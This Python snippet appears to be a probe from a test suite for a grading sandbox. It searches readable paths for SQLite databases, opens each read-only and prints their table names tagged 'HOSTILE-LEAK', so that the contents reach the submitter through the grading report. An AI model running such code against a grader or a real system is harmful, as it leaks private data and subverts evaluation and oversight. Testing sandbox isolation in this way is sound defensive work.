# Looks for the grading service's SQLite database anywhere it can
# read and prints its tables: the output comes back to its author in the
# report. Says HOSTILE-LEAK for each database it could open.
import sqlite3 as _hsq


def _databases():
    for _path in _hostile_find(_HOSTILE_DB_PLACES, lambda p: p.endswith((".sqlite3", ".sqlite", ".db"))):
        try:
            with open(_path, "rb") as _fh:
                if not _fh.read(16).startswith(b"SQLite format 3"):
                    continue
            _db = _hsq.connect(f"file:{_path}?mode=ro&immutable=1", uri=True)
            _tables = [r[0] for r in _db.execute("select name from sqlite_master where type = 'table'")]
            print("HOSTILE-LEAK", _path, _tables)
        except (OSError, _hsq.Error):
            continue


_databases()
